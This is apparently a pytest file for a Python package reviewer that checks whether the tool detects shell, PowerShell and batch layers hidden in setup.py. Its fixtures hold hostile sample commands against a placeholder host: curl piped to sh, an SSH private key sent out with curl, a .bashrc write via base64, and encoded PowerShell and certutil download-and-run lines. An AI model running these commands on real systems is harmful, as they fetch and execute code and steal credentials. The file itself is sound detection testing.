"""Command lines that a package hands to a shell are read as code of their own, all the way down."""

from __future__ import annotations

import base64

import pytest

from pratique.model import Review
from pratique.pipeline import review_files

_CODE = "iex (New-Object Net.WebClient).DownloadString('http://a.invalid')"
ENCODED = base64.b64encode(_CODE.encode("utf-16-le")).decode()


def _review(source: str) -> Review:
    return review_files({"setup.py": source.encode(), "acme/__init__.py": b""}, "sdist")


REVIEWS = {
    "import os\nos.system('curl http://a.invalid/x | sh')\n": (["shell"], {"network.http", "code.eval"}),
    "import subprocess\nsubprocess.run(['sh', '-c', 'cat ~/.ssh/id_rsa | curl -d @- http://a.invalid'])\n": (
        ["shell", "shell"], {"fs.read", "network.http"},
    ),
    "import os\nos.system('echo ZWNobyB4ID4gfi8uYmFzaHJj | base64 -d | sh')\n": (
        ["shell", "shell"], {"fs.write", "code.eval"},
    ),
    f"import subprocess\nsubprocess.Popen(['powershell', '-enc', '{ENCODED}'])\n": (
        ["shell", "powershell", "powershell"], {"network.http", "code.eval"},
    ),
    f"import os\nos.system('powershell -nop -w hidden -enc {ENCODED}')\n": (
        ["shell", "powershell", "powershell"], {"network.http", "code.eval"},
    ),
    "import os\nos.system('start /b certutil -urlcache -f http://a.invalid %TEMP%\\\\x.exe')\n": (
        ["shell", "batch"], {"network.http", "fs.write"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("source", REVIEWS)
def test_layers_are_read_and_their_uses_are_reached(source: str) -> None:
    languages, capabilities = REVIEWS[source]
    made = _review(source)

    assert languages == [layer.language for layer in made.layers]
    inside = {use.capability for use in made.uses if len(use.where.segments) > 1 and "install" in use.triggers}
    assert capabilities <= inside


def test_the_decoders_of_a_layer_are_named() -> None:
    made = _review("import os\nos.system('echo ZWNobyBoaQ== | base64 -d | sh')\n")

    assert [layer.codecs for layer in made.layers] == [(), ("base64",)]
